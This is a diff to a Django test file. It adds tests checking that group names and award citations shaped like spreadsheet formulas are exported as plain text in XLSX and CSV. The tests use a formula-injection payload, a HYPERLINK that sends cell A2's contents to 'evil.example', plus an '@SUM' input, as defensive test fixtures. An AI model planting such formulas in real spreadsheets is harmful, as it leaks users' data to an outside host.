@@ -16,12 +16,14 @@ from assessments.evaluation_finalize import finalize_evaluation
 from assessments.models import Award, AwardDecision, Standing
 from mentorship.models import Group
 from programs.models import AwardCategory, AwardSubject
+from tests.spreadsheet_checks import assert_xlsx_has_no_formulas
 
 from .evaluation_helpers import compute, criterion, evaluating, populate
 
 pytestmark = pytest.mark.django_db
 
 TABS = ("students", "mentors", "groups", "completion")
+EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
 
 
 def url(cycle, view="cycle", *args):
@@ -121,12 +123,34 @@ def test_every_row_is_exported_not_only_the_first_page(client, world, cycle, mon
 
 
 def test_text_that_looks_like_a_formula_stays_text(client, world, cycle):
-    Group.objects.filter(pk=world.team.pk).update(name="=HYPERLINK(1)")
+    Group.objects.filter(pk=world.team.pk).update(name=EVIL)
     client.force_login(world.coordinator)
-    groups = sheets(client.get(url(cycle, "export_xlsx")))["Groups"]
-    assert "'=HYPERLINK(1)" in {row[0] for row in groups[1:]}
+    response = client.get(url(cycle, "export_xlsx"))
+    assert_xlsx_has_no_formulas(response.content)
+    # A text cell holds the name as it is; the CSV marks it with an apostrophe.
+    assert EVIL in {row[0] for row in sheets(response)["Groups"][1:]}
     names = {row[0] for row in csv_rows(client.get(url(cycle, "export_csv", "groups")))[1:]}
-    assert "'=HYPERLINK(1)" in names
+    assert "'" + EVIL in names
+
+
+def test_award_text_that_looks_like_a_formula_stays_text(client, world, cycle):
+    best = Standing.objects.filter(evaluation=cycle.evaluation, subject="student")[0]
+    Award.objects.create(
+        evaluation=cycle.evaluation,
+        category=AwardCategory.objects.filter(program=cycle.program).first(),
+        subject="student",
+        enrollment=best.enrollment,
+        decision=AwardDecision.CONFIRMED,
+        reason="@SUM(1+1)",
+        citation=EVIL,
+    )
+    client.force_login(world.coordinator)
+    response = client.get(url(cycle, "awards_xlsx"))
+    assert_xlsx_has_no_formulas(response.content)
+    header, row = sheets(response)["Awards"]
+    assert row[7:9] == ["@SUM(1+1)", EVIL]
+    exported = csv_rows(client.get(url(cycle, "awards_csv")))
+    assert exported[1][7:9] == ["'@SUM(1+1)", "'" + EVIL]
 
 
 def test_the_awards_export_lists_the_award_rows(client, world, cycle):
